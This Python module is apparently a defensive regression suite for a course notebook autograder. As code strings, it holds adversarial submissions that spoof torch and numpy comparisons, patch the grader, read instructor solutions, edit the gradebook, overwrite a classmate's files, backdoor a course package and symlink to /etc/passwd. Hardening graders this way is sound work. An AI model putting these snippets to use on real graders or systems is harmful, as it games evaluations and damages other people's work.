"""A regression suite of attacks on the grader: cheats, faults and harm to others.

Each :class:`Attack` builds one student's submission folder from the lesson's release (a
*lean* copy: only the ``setup``, solution and test cells, which a student may legitimately
hand in) and states the outcome the grader must give it. ``tests/test_attacks.py`` collects
and autogrades them all in a throw-away course copy and asserts every outcome, plus what must
hold after the batch: no course file changed, no classmate's files or grades touched, no
process left running, every submission in the report.

Bases: ``reference`` (every solution filled in), ``blank`` (the release), ``stub`` (answers of
the right shapes and nothing else: :data:`STUBS`). A cheat must earn no more than the stub.
Code templates may use ``{root}`` (the course folder: attackers are assumed to know it),
``{aid}``, ``{port}`` (a TCP server on the grading machine's loopback) and ``{victim}`` (a
classmate's student id).
"""
from __future__ import annotations

import copy
import re
from dataclasses import dataclass, field

import nbformat

from graders import submissions as subs

ASSIGNMENT = "6-3-2-conditioning-the-unet"
VICTIM = "zz-classmate"

#: Answers with the right shapes and dtypes, nothing else (lesson 6-3-2).
STUBS = {
    "ex1_timestep_embedding": (
        "def timestep_embedding(t, dim, max_period=10000):\n"
        "    return torch.zeros(len(t), dim)\n"),
    "ex2a_neighbour_similarity": (
        "def neighbour_similarity(emb):\n"
        "    return torch.zeros(len(emb) - 1)\n"),
    "ex2b_timestep_mlp": (
        "class TimestepMLP(nn.Module):\n"
        "    def __init__(self, in_dim, hidden_dim):\n"
        "        super().__init__()\n"
        "        self.linear_1 = nn.Linear(in_dim, hidden_dim)\n"
        "        self.act = nn.SiLU()\n"
        "        self.linear_2 = nn.Linear(hidden_dim, hidden_dim)\n"
        "    def forward(self, emb):\n"
        "        return torch.zeros(len(emb), self.linear_2.out_features)\n"),
    "ex3_adagroupnorm": (
        "class AdaGroupNorm(nn.Module):\n"
        "    def __init__(self, emb_dim, num_channels, num_groups, eps=1e-5):\n"
        "        super().__init__()\n"
        "        self.num_groups, self.eps = num_groups, eps\n"
        "        self.linear = nn.Linear(emb_dim, 2 * num_channels)\n"
        "    def forward(self, x, emb):\n"
        "        return torch.zeros_like(x)\n"),
    "ex4_group_norm": (
        "def group_norm(x, num_groups, eps=1e-5):\n"
        "    return torch.zeros_like(x)\n"),
    "ex5_conditioned_resblock": (
        "class ConditionedResBlock(nn.Module):\n"
        "    def __init__(self, in_channels, out_channels, emb_dim, num_groups, eps=1e-5):\n"
        "        super().__init__()\n"
        "        self.norm1 = AdaGroupNorm(emb_dim, in_channels, num_groups, eps=eps)\n"
        "        self.conv1 = nn.Conv2d(in_channels, out_channels, kernel_size=3, padding=1)\n"
        "        self.norm2 = AdaGroupNorm(emb_dim, out_channels, num_groups, eps=eps)\n"
        "        self.conv2 = nn.Conv2d(out_channels, out_channels, kernel_size=3, padding=1)\n"
        "        self.conv_shortcut = (nn.Conv2d(in_channels, out_channels, kernel_size=1)\n"
        "                              if in_channels != out_channels else None)\n"
        "    def forward(self, x, temb):\n"
        "        return torch.zeros(x.shape[0], self.conv2.out_channels, *x.shape[2:])\n"),
}


@dataclass(frozen=True)
class Attack:
    name: str
    base: str                                  # "reference" | "blank" | "stub"
    cells: tuple[str, ...] = ()                # code cells inserted after the first setup cell
    last: tuple[str, ...] = ()                 # code cells appended at the end
    solutions: dict = field(default_factory=dict)   # grade_id -> code replacing that answer
    every_solution: str = ""                   # code template replacing EVERY answer ({gid})
    layout: str = "normal"                     # see build(): misnamed, two, symlink, ...
    expect: str = "stub"                       # "full" | "zero" | "stub" (at most the stub's score)
                                               # | "full-but:<part>" (that part 0, the rest full)
    status: str = "graded"                     # "graded" | "failed" | "not collected"
    detail: str = ""                           # a phrase the status detail must contain
                                               # (alternatives separated by " | ")
    why: str = ""


ATTACKS: list[Attack] = [
    # ---- controls
    Attack("control-reference", "reference", expect="full", why="the reference keeps full marks"),
    Attack("control-blank", "blank", expect="zero", why="the untouched release scores 0"),
    Attack("control-stub", "stub", expect="stub", why="right shapes earn only the shape cells"),
    # ---- cheats: patching what the comparison uses
    Attack("monkeypatch-comparisons", "stub", cells=(
        "import numpy as np, torch, builtins\n"
        "np.abs = np.zeros_like; np.allclose = lambda *a, **k: True; np.isclose = lambda *a, **k: True\n"
        "torch.allclose = lambda *a, **k: True; torch.equal = lambda *a, **k: True\n"
        "torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)\n"
        "torch.Tensor.abs = lambda self: torch.zeros_like(self)\n"
        "builtins.max = lambda *a, **k: 0\n",), why="numpy, torch and builtins replaced"),
    Attack("tensor-subclass-liar", "stub", cells=(
        "class Liar(torch.Tensor):\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        name = getattr(func, '__name__', '')\n"
        "        if name in ('__sub__', 'sub', 'abs', '__abs__', 'ne', '__ne__'):\n"
        "            return torch.zeros(())\n"
        "        if name in ('allclose', 'equal', 'isclose', 'eq', '__eq__'):\n"
        "            return True\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n",),
        solutions={"ex1_timestep_embedding": (
            "def timestep_embedding(t, dim, max_period=10000):\n"
            "    return torch.zeros(len(t), dim).as_subclass(Liar)\n"),
            "ex4_group_norm": (
            "def group_norm(x, num_groups, eps=1e-5):\n"
            "    return torch.zeros_like(x).as_subclass(Liar)\n")},
        why="a Tensor subclass whose differences are zero"),
    Attack("import-graders", "stub", cells=(
        "try:\n"
        "    import graders.checks.l2_conditioning as g\n"
        "    g.check = lambda *a, **k: None\n"
        "    g.CHECKS.judge = lambda *a, **k: None\n"
        "    g.CHECKS.__class__.__call__ = lambda *a, **k: None\n"
        "except Exception as e:\n"
        "    print('no graders here:', e)\n",), why="the instructor's package imported and patched"),
    Attack("fake-sys-modules", "stub", cells=(
        "import sys, types\n"
        "fake = types.ModuleType('graders.checks.l2_conditioning'); fake.check = lambda *a, **k: None\n"
        "pkg, chk = types.ModuleType('graders'), types.ModuleType('graders.checks')\n"
        "chk.l2_conditioning, pkg.checks = fake, chk\n"
        "sys.modules.update({'graders': pkg, 'graders.checks': chk, 'graders.checks.l2_conditioning': fake})\n"
        "sys.modules['sdgrade_runtime'] = fake\n",), why="fake grader modules in sys.modules"),
    Attack("input-transformer", "stub", cells=(
        "def _neuter(lines):\n"
        "    text = ''.join(lines)\n"
        "    return ['pass\\n'] if ('hidden' in text or '__grader__' in text or 'testing.' in text) else lines\n"
        "get_ipython().input_transformers_post.append(_neuter)\n",), why="later test cells become `pass`"),
    Attack("ast-transformer", "stub", cells=(
        "import ast\n"
        "class _Swallow(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        h = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])\n"
        "        return ast.fix_missing_locations(ast.Module(body=[ast.Try(body=node.body or [ast.Pass()], "
        "handlers=[h], orelse=[], finalbody=[])], type_ignores=[]))\n"
        "get_ipython().ast_transformers.append(_Swallow())\n",), why="every cell wrapped in try/except"),
    Attack("ipython-hooks", "stub", cells=(
        "ip = get_ipython()\n"
        "def _clear(result):\n"
        "    result.error_in_exec = None; result.error_before_exec = None\n"
        "ip.events.register('post_run_cell', _clear)\n"
        "ip.events.register('pre_run_cell', lambda info: print('all tests passed'))\n"
        "ip.set_custom_exc((BaseException,), lambda *a, **k: print('passed'))\n",),
        why="post/pre_run_cell hooks and a custom exception handler"),
    Attack("read-solutions", "blank", every_solution=(
        "import glob, json\n"
        "for _p in glob.glob('{root}/solutions/*/*.ipynb') + glob.glob('/work/*/solutions/*/*.ipynb') + glob.glob('/tmp/**/solutions/*/*.ipynb', recursive=True):\n"
        "    for _c in json.load(open(_p))['cells']:\n"
        "        if _c.get('metadata', {}).get('nbgrader', {}).get('grade_id') == '{gid}':\n"
        "            exec(''.join(_c['source']), globals())\n"), expect="zero",
        why="the instructor's solutions read and executed at grading time"),
    Attack("copy-classmate", "blank", every_solution=(
        "import glob, json\n"
        "for _p in glob.glob('{root}/graders/workspace/**/*.ipynb', recursive=True):\n"
        "    for _c in json.load(open(_p))['cells']:\n"
        "        if _c.get('metadata', {}).get('nbgrader', {}).get('grade_id') == '{gid}':\n"
        "            exec(''.join(_c['source']), globals())\n"), expect="zero",
        why="a classmate's submitted answers copied at grading time"),
    Attack("write-gradebook", "blank", cells=(
        "import sqlite3, glob\n"
        "for _db in ['{root}/graders/workspace/gradebook.db'] + glob.glob('/work/**/gradebook.db', recursive=True) + glob.glob('/tmp/**/gradebook.db', recursive=True):\n"
        "    try:\n"
        "        _c = sqlite3.connect(_db)\n"
        "        _c.execute('UPDATE grade SET manual_score = 1000'); _c.commit()\n"
        "    except Exception as e:\n"
        "        print(e)\n",), expect="zero", why="the gradebook edited with sqlite3"),
    Attack("harm-classmates", "blank", cells=(
        "import glob, os, shutil\n"
        "for _p in glob.glob('{root}/graders/workspace/*/{victim}/**/*', recursive=True):\n"
        "    try:\n"
        "        open(_p, 'w').write('{}') if os.path.isfile(_p) else None\n"
        "    except Exception as e:\n"
        "        print(e)\n"
        "shutil.rmtree('{root}/graders/workspace/submitted/{victim}', ignore_errors=True)\n",),
        expect="zero", why="a classmate's submission and autograded copy overwritten"),
    Attack("backdoor-sdcourse", "blank", cells=(
        "import sdcourse, os\n"
        "_init = os.path.join(os.path.dirname(sdcourse.__file__), '__init__.py')\n"
        "try:\n"
        "    open(_init, 'a').write('\\nimport builtins; builtins.PWNED = True\\n')\n"
        "except Exception as e:\n"
        "    print(e)\n",), expect="zero", why="a backdoor appended to the course package"),
    Attack("detached-process", "blank", cells=(
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', 'import time, sqlite3\\n"
        "time.sleep(20)\\nc = sqlite3.connect(\"{root}/graders/workspace/gradebook.db\")\\n"
        "c.execute(\"UPDATE grade SET manual_score = 1000\"); c.commit()'], start_new_session=True,\n"
        "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",),
        expect="zero", why="a process meant to outlive grading and edit the gradebook afterwards"),
    Attack("kill-grader", "reference", cells=(
        "import os, signal\n"
        "os.kill(os.getppid(), signal.SIGKILL)\n",), expect="stub",
        why="kills its parent process (the grader, it hopes)"),
    # ---- faults an honest student can make: correct answers keep their points
    Attack("stderr-and-warnings", "reference", every_solution=(
        "import sys, warnings\n"
        "print('debugging', file=sys.stderr); warnings.warn('noisy')\n"
        "{reference}\n"), expect="full", why="correct answers that write to stderr"),
    Attack("output-flood", "reference", cells=(
        "for _i in range(200_000):\n"
        "    print('x' * 250)\n",), expect="full", why="50 MB of printed output"),
    Attack("memory-bomb", "reference", cells=(
        "import numpy as np\n"
        "_hog = [np.ones(2**28) for _ in range(4)]  # 8 GiB\n",), expect="full",
        # which limit stops it first depends on how fast the machine hands out fresh memory
        # (a new CI VM: ~100 MB/s, so the cell's time limit can come first); the memory limit
        # itself is pinned by test_machinery's direct sandbox test
        detail="memory limit | stopped for time", why="8 GiB allocated"),
    Attack("network", "reference", cells=(
        "import socket\n"
        "for _addr in [('127.0.0.1', {port}), ('10.0.2.2', 80), ('8.8.8.8', 53)]:\n"
        "    try:\n"
        "        socket.create_connection(_addr, timeout=2).sendall(b'leak')\n"
        "    except OSError as e:\n"
        "        print('blocked:', e)\n",), expect="full", why="network, loopback included"),
    Attack("infinite-loop-in-an-answer", "reference", solutions={"ex1_timestep_embedding": (
        "def timestep_embedding(t, dim, max_period=10000):\n"
        "    while True:\n"
        "        pass\n")}, expect="full-but:ex1", detail="stopped for time",
        why="an answer that never returns loses only its own part"),
    Attack("sigint-proof-loop", "reference", last=(
        "import signal\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n"
        "    pass\n",), expect="full", detail="did not stop", why="an uninterruptible last cell"),
    Attack("kernel-crash", "reference", cells=("import os\nos._exit(1)\n",), expect="full",
           detail="kernel died", why="a cell that kills its own kernel"),
    Attack("sleepy-cells", "reference", cells=("import time\ntime.sleep({nap})\n",) * 13,
           expect="stub", detail="time budget",
           why="cell after cell sleeps just under the cell time limit, to exhaust the grader"),
    # ---- files
    Attack("misnamed", "reference", layout="misnamed", expect="full", detail="Copy of",
           why="`Copy of <assignment>.ipynb`"),
    Attack("two-notebooks", "reference", layout="two", status="failed", detail="several notebooks",
           expect="none", why="a final and a draft in one folder"),
    Attack("symlink-to-solution", "reference", layout="symlink-solution", status="not collected",
           expect="none", why="the submission is a link to the instructor's solution"),
    Attack("symlink-to-passwd", "reference", layout="symlink-passwd", status="not collected",
           expect="none", why="a link to /etc/passwd"),
    Attack("malformed", "reference", layout="malformed", status="failed", detail="malformed",
           expect="none", why="not JSON"),
]


def _fill(template: str, **values) -> str:
    """Replace ``{name}`` for the known names only (code is full of other braces)."""
    return re.sub(r"\{(" + "|".join(map(re.escape, values)) + r")\}",
                  lambda m: str(values[m.group(1)]), template)


def lean(nb):
    """Only the cells a submission needs: setup, solutions and tests (and the answers)."""
    out = copy.deepcopy(nb)
    out.cells = [c for c in out.cells if subs.is_setup(c) or c.metadata.get("nbgrader")]
    return out


def build(attack: Attack, source_nb, release_nb, **fmt) -> tuple[str, object]:
    """(layout, notebook) for one attack; ``fmt`` fills the code templates."""
    ref = subs.reference_answers(source_nb)
    answers = {}
    if attack.base == "reference":
        answers = dict(ref)
    elif attack.base == "stub":
        answers = {gid: code for gid, code in STUBS.items()}
    for gid, code in attack.solutions.items():
        answers[gid] = code
    if attack.every_solution:
        for cell in source_nb.cells:
            if subs.is_solution(cell):
                gid = subs.grade_id(cell)
                answers[gid] = _fill(attack.every_solution, gid=gid, reference=ref.get(gid, ""), **fmt)
    nb = lean(subs.fill(release_nb, answers))
    for code in reversed(attack.cells):
        subs.insert_after_setup(nb, nbformat.v4.new_code_cell(_fill(code, **fmt)))
    for code in attack.last:
        nb.cells.append(nbformat.v4.new_code_cell(_fill(code, **fmt)))
    return attack.layout, nb
